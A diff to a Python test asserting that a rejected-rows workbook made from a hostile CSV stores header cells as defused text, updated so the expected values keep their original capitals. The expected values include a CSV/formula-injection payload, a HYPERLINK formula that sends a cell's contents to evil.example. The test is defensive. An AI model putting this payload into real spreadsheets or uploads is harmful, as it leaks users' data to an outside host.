@@ -154,8 +154,10 @@ def test_the_rejected_rows_workbook_writes_the_uploaded_header_as_text(tmp_path:
     workbook = load_workbook(tmp_path / "hostile.csv.rejected.xlsx")
     header = list(next(workbook.active.iter_rows(min_row=1, max_row=1)))
     extra = [(cell.value, cell.data_type) for cell in header[-3:]]
+    # Session 24 (h74): the workbook is titled with the file's header cells as written, no longer with the
+    # lower-cased names the reader maps them to, so the formula keeps its capitals (defused all the same).
     assert extra == [
-        ('\'=hyperlink("http://evil.example/?x="&d2,"xem")', "s"),
+        ('\'=HYPERLINK("http://evil.example/?x="&D2,"xem")', "s"),
         ("ghichu", "s"),
         ("note", "s"),
     ]
